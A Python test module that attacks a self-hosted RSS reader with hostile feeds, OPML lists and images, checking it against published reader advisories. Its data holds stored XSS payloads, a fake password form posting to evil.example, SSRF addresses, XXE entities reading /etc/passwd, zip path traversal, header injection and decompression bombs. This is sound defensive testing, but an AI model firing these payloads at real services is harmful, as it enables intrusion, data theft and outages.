"""What feeds, lists and pictures of strangers do to a running reader: one class for each class of known holes.

The publisher sits at 127.0.0.2, which the installation may reach; 127.0.0.3 plays a service of the private network
that it must not. The classes are those of the newest advisories of FreshRSS, Miniflux, CommaFeed and Tiny Tiny RSS;
`docs/security.md` names them.
"""

import gzip
import re
import zipfile
from base64 import b64decode, urlsafe_b64encode
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest

from tests.attacks.filling import MALLORY
from tests.attacks.following import finished, follow, import_status
from tests.attacks.site import Browser, Site
from tests.attacks.state import changed, state_of
from tests.faults.processes import Cluster, cluster, n_rows, wait_until
from tests.feeds.servers import ScriptedServer, answer, moved
from tests.rssmanager.test_hostile_words import active

MARK = "zqattack"
WORDS = ("harbour whale tariff", "glacier orchard violin", "kernel senate copper")
SCRIPT = f"<script>{MARK}</script><img src=x onerror={MARK}>"
GIF = b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")  # one pixel
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'><script>{MARK}</script></svg>".encode()
HTML = f"<!doctype html><script>{MARK}</script>".encode()
BODY = (
    f"<p style='position:fixed;inset:0;background:url(http://127.0.0.3/x)' onclick='{MARK}()'>Text of some length</p>"
    f"<style>body{{background:url(//evil.example)}}</style><link rel=stylesheet href=//evil.example/x.css>"
    f"<iframe srcdoc='&lt;script&gt;{MARK}&lt;/script&gt;'></iframe><iframe src='javascript:{MARK}'></iframe>"
    f"<iframe src='https://www.youtube.com.evil.example/embed/x'></iframe><object data='javascript:{MARK}'></object>"
    f"<a href='javascript:{MARK}'>j</a><a href='&#x6a;avascript:{MARK}'>k</a><a href='data:text/html,{MARK}'>d</a>"
    f"<form action='http://evil.example'><input name=password>"
    f"<button formaction='javascript:{MARK}'>Sign in</button></form>"
    f"<svg><a xlink:href='javascript:{MARK}'><text>t</text></a></svg>"
    f"<math><mtext><style><img src onerror={MARK}></style></mtext></math>"
    "<img src='http://127.0.0.2:{port}/vector.svg'><img src='http://127.0.0.2:{port}/page.png'>"
    "<img src='http://127.0.0.2:{port}/photo.gif'><img src='http://127.0.0.2:{port}/inward.png'>"
    "<img src='http://127.0.0.3:{inner}/secret.png'><img srcset='http:a<script>zqattack</script> 2x'>"
    f"<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example/'>"
    f"<template>{SCRIPT}</template>"
)


@pytest.fixture(scope="module")
def publisher() -> Iterator[ScriptedServer]:
    server = ScriptedServer("127.0.0.2")
    yield server
    server.close()


@pytest.fixture(scope="module")
def inner() -> Iterator[ScriptedServer]:
    """Nobody may ever ask it."""
    server = ScriptedServer("127.0.0.3")
    for path in ("/", "/feed", "/secret.png", "/favicon.ico"):
        server.on(path, answer(200, b"<rss version='2.0'><channel><title>zqinner</title></channel></rss>"))
    yield server
    server.close()


@pytest.fixture(scope="module")
def worker(site: Site) -> Iterator[Cluster]:
    with cluster(site.reader) as running:
        yield running


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("'", "&apos;")


def _item(number: int, body: str) -> str:
    words = WORDS[number]
    return (
        f"<item><guid isPermaLink='false'>{number}</guid>"
        f"<title>{_escaped(f'Post {MARK} {SCRIPT} {words}')}&#13;&#10;Bcc: all@evil.example</title>"
        f"<link>javascript:{MARK}</link><author>{_escaped(SCRIPT)}</author><category>{_escaped(SCRIPT)}</category>"
        f"<comments>javascript:{MARK}</comments>"
        f"<description>{_escaped('<p>' + (words + ' ') * 9 + MARK + '</p>' + body)}</description>"
        f"<enclosure url='javascript:{MARK}' type='text/html' length='1'/>"
        f"<enclosure url='http://127.0.0.2/x.html' type='text/html&quot; onload=&quot;{MARK}' length='1'/></item>"
    )


def _feed(body: str, *, icon: str) -> bytes:
    items = "".join(_item(number, body) for number in range(len(WORDS)))
    return (
        f"<rss version='2.0'><channel><title>{_escaped(MARK + SCRIPT)}&#13;&#10;Bcc: all@evil.example</title>"
        f"<link>javascript:{MARK}</link><description>{_escaped(SCRIPT)}</description>{icon}{items}</channel></rss>"
    ).encode()


def _upload(site: Site, browser: Browser, name: str, content: bytes) -> int:
    token = browser.token("/subscribe/")
    answered = browser.ask(
        "POST", "/subscribe/", data={"csrfmiddlewaretoken": token, "form": "list"}, files={"list-file": (name, content)}
    )
    if answered.status_code != 302:
        return 0
    path = answered.headers["Location"]
    if import_status(site, path) == "preview":
        browser.post(f"{path}confirm/", token_of=path, act="follow")
    return finished(site, path)


def _links(page: str) -> list[str]:
    return re.findall(r"""(?:href|src|action|formaction|poster|data)\s*=\s*["']?\s*([^"'\s>]+)""", page)


@pytest.fixture(scope="module")
def followed(site: Site, publisher: ScriptedServer, inner: ScriptedServer, worker: Cluster) -> Browser:
    """Mallory, who follows the most hostile feed there is; its articles have come."""
    body = BODY.replace("{port}", str(publisher.port)).replace("{inner}", str(inner.port))
    icon = f"<image><url>http://127.0.0.3:{inner.port}/favicon.ico</url><link>javascript:{MARK}</link></image>"
    url = publisher.on("/hostile.xml", answer(200, _feed(body, icon=icon), content_type="application/rss+xml"))
    publisher.on("/vector.svg", answer(200, SVG, content_type="image/svg+xml"))
    publisher.on("/page.png", answer(200, HTML, content_type="image/png"))
    publisher.on("/photo.gif", answer(200, GIF, content_type="text/html"))
    publisher.on("/inward.png", moved(302, f"http://127.0.0.3:{inner.port}/secret.png"))
    browser = site.person(MALLORY)
    follow(site, browser, url)
    wait_until(lambda: len(_articles(browser)) > len(WORDS), "its articles did not come", patience=240)
    return browser


def _articles(browser: Browser) -> list[str]:
    return sorted(set(re.findall(r'href="(/articles/\d+/)', browser.get("/all/").text)))


class TestStoredScripts:
    """FreshRSS's feed titles, CommaFeed's GHSA-44pq-9929-f8mq (`javascript:` links), Miniflux 2.3.4 (iframes)."""

    def test_every_page_shows_text_and_runs_nothing(self, site: Site, followed: Browser) -> None:
        articles = _articles(followed)
        assert len(articles) >= 3
        paths = [
            "/",
            "/all/",
            "/health/",
            "/subscribe/",
            "/for-you/",
            "/important/",
            "/feeds/duplicates/",
            "/interests/",
        ]
        paths += [f"/search/?q={MARK}", "/notifications/", "/habits/", *articles]
        paths += [f"{path}{view}/" for path in articles for view in ("why", "related", "changes")]
        feeds = set(re.findall(r'href="(/feeds/\d+/)', followed.get("/all/").text))
        paths += [f"{path}{view}" for path in feeds for view in ("", "edit/", "health/")]
        found = {path: active(followed.get(path).text) for path in paths}
        assert {path: what for path, what in found.items() if what} == {}
        assert any(MARK in followed.get(path).text for path in articles)  # it is there, as text

    def test_the_administrator_sees_text_too(self, site: Site, followed: Browser) -> None:
        paths = [
            "/admin/feeds/feed/",
            "/admin/feeds/article/",
            "/admin/feeds/poll/",
            "/settings/operations/",
            "/admin/feeds/source/",
        ]
        pages = {path: site.admin.get(path).text for path in paths}
        assert any(MARK in page for page in pages.values())
        for path, page in pages.items():
            assert f"<script>{MARK}" not in page, path
            assert f"<img src=x onerror={MARK}" not in page, path
            assert not [link for link in _links(page) if link.lower().startswith(("javascript:", "data:text"))], path

    def test_no_style_of_a_feed_covers_a_page(self, followed: Browser) -> None:
        """Clickjacking from within: an article that lies over the buttons of the page."""
        for path in _articles(followed):
            page = followed.get(path).text
            assert "position:fixed" not in page.replace(" ", "")
            assert "evil.example/x.css" not in page
            assert 'name="password"' not in page
            assert "style=" not in page.partition("<article")[2].partition("</article>")[0] or "url(" not in page

    def test_what_is_exported_is_text(self, followed: Browser) -> None:
        listed = followed.get("/export.opml")
        assert "javascript:" not in listed.text
        assert f"<script>{MARK}" not in listed.text
        assert "\n" not in listed.headers["Content-Disposition"]
        assert MARK not in str(followed.get("/settings/data/export/").headers)

    def test_a_mail_has_no_header_of_a_feed(self, site: Site, followed: Browser) -> None:
        """Ends of lines in titles would be headers of their own."""
        n_before = len(site.mail.received)
        linked = "from feeds.models import Article as A; A.objects.filter(title__contains='Bcc').update(url='https://a.example/')"
        site.reader.run(
            "shell", "--no-imports", "-c", linked
        )  # their own aren't web addresses, so digests leave them out
        wait_until(lambda: not n_rows(site.reader, "reader_delivery", "NOT is_rated"), "none are rated", patience=240)
        site.reader.run("digest", "--user", MALLORY, "--kind", "morning", "--send")
        (mail,) = site.mail.received[n_before:]
        assert mail.recipients == ["mallory@example.org"]
        assert mail.message["Bcc"] is None
        assert mail.message["To"] == "mallory@example.org"
        html = mail.part("html")
        assert "zqattack" in html
        assert f"<script>{MARK}" not in html
        assert not [link for link in _links(html) if link.lower().startswith(("javascript:", "data:text"))]


class TestPictures:
    """Miniflux's CVE-2023-27592, GO-2025-3591 and CVE-2026-21885; tt-rss's CVE-2020-25788 and CVE-2020-25789."""

    def test_only_pixels_come_through(self, site: Site, followed: Browser, inner: ScriptedServer) -> None:
        addresses = {
            found for path in _articles(followed) for found in re.findall(r'"(/img/[^"]+)"', followed.get(path).text)
        }
        assert len(addresses) >= 4
        types = []
        for address in addresses:
            found = followed.get(address)
            if found.status_code == 200:
                types.append(found.headers["Content-Type"])
                assert found.headers["Content-Security-Policy"].startswith("sandbox")
                assert found.headers["X-Content-Type-Options"] == "nosniff"
            assert MARK not in found.text
            assert site.browser().get(address).status_code == 302  # only for who is signed in
        assert types == ["image/gif"]  # what its bytes are, whatever its server called it
        assert inner.requests == []

    def test_nobody_chooses_what_is_fetched(self, followed: Browser, publisher: ScriptedServer) -> None:
        n_before = len(publisher.requests)
        for url in (
            publisher.url("/photo.gif"),
            "file:///etc/passwd",
            f"http:a<script>{MARK}</script>",
            "gopher://127.0.0.3/",
        ):
            packed = urlsafe_b64encode(url.encode()).decode().rstrip("=")
            for signature in ("x", "A" * 43, packed):
                found = followed.get(f"/img/{signature}/{packed}")
                assert found.status_code == 404
                assert MARK not in found.text
        assert len(publisher.requests) == n_before


class TestPrivateNetwork:
    """CommaFeed's GHSA-q5qw-345w-55xg, Miniflux's CVE-2026-108735, FreshRSS 1.30: addresses of the private network."""

    def test_no_way_in_leads_to_it(
        self, site: Site, worker: Cluster, publisher: ScriptedServer, inner: ScriptedServer
    ) -> None:
        browser, port = site.person(MALLORY), inner.port
        there = f"http://127.0.0.3:{port}/feed"
        page = f"<html><head><link rel=alternate type=application/rss+xml href='{there}'></head></html>".encode()
        refresh = f"<meta http-equiv=refresh content='0;url={there}'>".encode()
        publisher.on("/page", answer(200, page, content_type="text/html"))
        addresses = [
            there,
            f"http://2130706435:{port}/feed",
            f"http://0x7f.0.0.3:{port}/feed",
            f"http://0177.0.0.3:{port}/feed",
            f"http://127.3:{port}/feed",
            f"http://[::ffff:127.0.0.3]:{port}/feed",
            f"http://user:pass@127.0.0.3:{port}/feed",
            f"http://127.0.0.2\\@127.0.0.3:{port}/feed",
            f"http://127.0.0.2#@127.0.0.3:{port}/feed",
            f"feed:{there}",
            f"http://①②⑦.⓪.⓪.③:{port}/feed",
            "file:///etc/passwd",
            f"gopher://127.0.0.3:{port}/_GET%20/feed",
            f"dict://127.0.0.3:{port}/",
            publisher.on("/hop", moved(302, there)),
            publisher.on("/hops", moved(301, publisher.url("/hop"))),
            publisher.on("/refresh", answer(200, refresh, content_type="text/html")),
            publisher.url("/page"),
        ]
        for address in addresses:
            follow(site, browser, address)
        assert inner.requests == []
        assert "zqinner" not in browser.get("/all/").text

    def test_nor_does_a_list(self, site: Site, worker: Cluster, inner: ScriptedServer) -> None:
        browser = site.person(MALLORY)
        there = f"http://127.0.0.3:{inner.port}/feed"
        outlines = "".join(f"<outline text='a{n}' xmlUrl='{there}?{n}' htmlUrl='{there}'/>" for n in range(20))
        _upload(site, browser, "feeds.opml", f"<opml version='2.0'><body>{outlines}</body></opml>".encode())
        answered = browser.post("/subscribe/", form="list", **{"list-address": there})
        if answered.status_code == 302:
            finished(site, answered.headers["Location"])
        assert inner.requests == []


class TestCredentials:
    @pytest.mark.parametrize("status", [301, 302, 307, 308])
    def test_password_follows_no_redirect_elsewhere(
        self, site: Site, publisher: ScriptedServer, worker: Cluster, status: int
    ) -> None:
        """The same host at another port is another server."""
        other = ScriptedServer("127.0.0.2")
        try:
            target = other.on("/feed", answer(200, b"<rss version='2.0'><channel><title>zq</title></channel></rss>"))
            publisher.on(f"/moved{status}", moved(status, target))
            follow(site, site.person(MALLORY), publisher.url(f"/moved{status}", credentials="ada:zqpassword"))
            asked = [request for request in publisher.requests if request.target == f"/moved{status}"]
            assert asked
            assert all("authorization" in request.headers for request in asked)
            assert [request.target for request in other.requests if "authorization" in request.headers] == []
        finally:
            other.close()


class TestLists:
    """OPML and exports as uploads: entities, bombs, paths, scripts."""

    def test_no_entity_is_read(self, site: Site, worker: Cluster, inner: ScriptedServer) -> None:
        browser = site.person(MALLORY)
        entities = (
            "<!DOCTYPE o [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
            f"<!DOCTYPE o [<!ENTITY x SYSTEM 'http://127.0.0.3:{inner.port}/'>]>",
            f"<!DOCTYPE o SYSTEM 'http://127.0.0.3:{inner.port}/feed'>",
            f"<!DOCTYPE o [<!ENTITY % p SYSTEM 'http://127.0.0.3:{inner.port}/'>%p;<!ENTITY x 'x'>]>",
            "<!DOCTYPE o [<!ENTITY x 'zq'><!ENTITY y '" + "&x;" * 10_000 + "'>]>",
        )
        for doctype in entities:
            listed = f"{doctype}<opml version='2.0'><body><outline text='&x;' xmlUrl='https://listed.example/&x;'/></body></opml>"
            number = _upload(site, browser, "feeds.opml", listed.encode())
            shown = browser.get(f"/imports/{number}/").text if number else ""
            assert "root:" not in shown
        assert inner.requests == []

    def test_no_script_is_followed(self, site: Site, worker: Cluster) -> None:
        browser = site.person(MALLORY)
        listed = (
            f"<opml version='2.0'><body><outline text='{_escaped(SCRIPT)}'>"
            f"<outline text='{_escaped(SCRIPT)}' xmlUrl='javascript:{MARK}' htmlUrl='javascript:{MARK}'/>"
            f"<outline text='ok' xmlUrl='https://listed.example/ok' htmlUrl='javascript:{MARK}'/></outline>"
            "</body></opml>"
        )
        number = _upload(site, browser, f"{SCRIPT}.opml", listed.encode())
        assert number
        for path in (f"/imports/{number}/", "/subscribe/", "/folders/", "/health/"):
            assert active(browser.get(path).text) == [], path
        assert "javascript:" not in browser.get("/export.opml").text

    def test_no_name_is_a_path(self, site: Site) -> None:
        """FreshRSS's GHSA-hvrj-5fwj-p7v6: a path within a name."""
        browser = site.person(MALLORY)
        files = _files(site)
        packed = BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            for name in ("../../escaped.txt", "/tmp/zqescaped.txt", "..\\escaped.txt", "a/../../../escaped.txt"):  # noqa: S108
                archive.writestr(name, MARK)
        token = browser.token("/settings/data/")
        for name in (
            "../../../escaped.zip",
            "/etc/cron.d/escaped",
            "a\\..\\b.zip",
            "x\r\nX-Evil: 1.zip",
            "nul\x00.zip",
        ):
            answered = browser.ask(
                "POST",
                "/settings/data/",
                data={"csrfmiddlewaretoken": token},
                files={"file": (name, packed.getvalue())},
            )
            assert answered.status_code in (302, 400, 422), name
            assert "X-Evil" not in answered.headers
        assert _files(site) - files == set()
        assert not Path("/tmp/zqescaped.txt").exists()  # noqa: S108 - a name in the archive


class TestCost:
    """CommaFeed 7.2.0 (lists that make the server work), and bombs."""

    def test_a_bomb_keeps_nobody_waiting(self, site: Site, worker: Cluster, publisher: ScriptedServer) -> None:
        bomb = gzip.compress(b"<rss version='2.0'><channel><title>" + b"a" * (200 * 2**20), compresslevel=1)
        nested = b"<rss version='2.0'><channel>" + b"<a>" * 400_000
        browser = site.person(MALLORY)
        urls = [
            publisher.on("/bomb", answer(200, bomb, content_encoding="gzip")),
            publisher.on("/deep", answer(200, nested)),
            publisher.on("/laughs", answer(200, _laughs())),
        ]
        started = [browser.post("/subscribe/", address=url, folder="").headers["Location"] for url in urls]
        item = b"<item><title>Hello there</title><guid>1</guid></item>"
        feed = b"<rss version='2.0'><channel><title>zqhonest</title>" + item + b"</channel></rss>"
        honest = publisher.on("/honest", answer(200, feed))
        follow(site, browser, honest)
        wait_until(lambda: "zqhonest" in browser.get("/all/").text, "the honest feed did not come", patience=60)
        for path in started:
            finished(site, path)
        assert browser.get("/all/").elapsed.total_seconds() < 5

    def test_a_search_that_backtracks_ends(self, site: Site) -> None:
        for query in (
            "a" * 5000,
            "(" * 2000,
            '"' * 1999,
            "title:" * 400,
            "* " * 900,
            "-" * 3000,
            "a OR " * 500,
            "\\" * 2000,
        ):
            found = site.mallory.get("/search/", params={"q": query})
            assert found.status_code < 500, query[:20]
            assert found.elapsed.total_seconds() < 5, query[:20]


class TestOthers:
    def test_what_others_follow_stays_as_it_is(self, site: Site, followed: Browser) -> None:
        """FreshRSS's CVE-2025-62166: feeds of other people, and their tokens, by number."""
        before = state_of(site.reader)
        for number in range(1, 12):
            for path in (f"/feeds/{number}/", f"/feeds/{number}/edit/", f"/digests/{number}/", f"/imports/{number}/"):
                found = followed.get(path)
                assert "zqsecret" not in found.text, path
        assert "reader_subscription" not in changed(before, state_of(site.reader))


def _files(site: Site) -> set[str]:
    """What lies beside the database, and one folder above."""
    found = {str(each) for each in site.reader.folder.rglob("*") if "sqlite3" not in each.name}
    return found | {str(each) for each in site.reader.folder.parent.glob("escaped*")}


def _laughs() -> bytes:
    entities = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    doctype = f"<!DOCTYPE r [<!ENTITY l0 'ha'>{entities}]>"
    return f"{doctype}<rss version='2.0'><channel><title>&l9;</title></channel></rss>".encode()
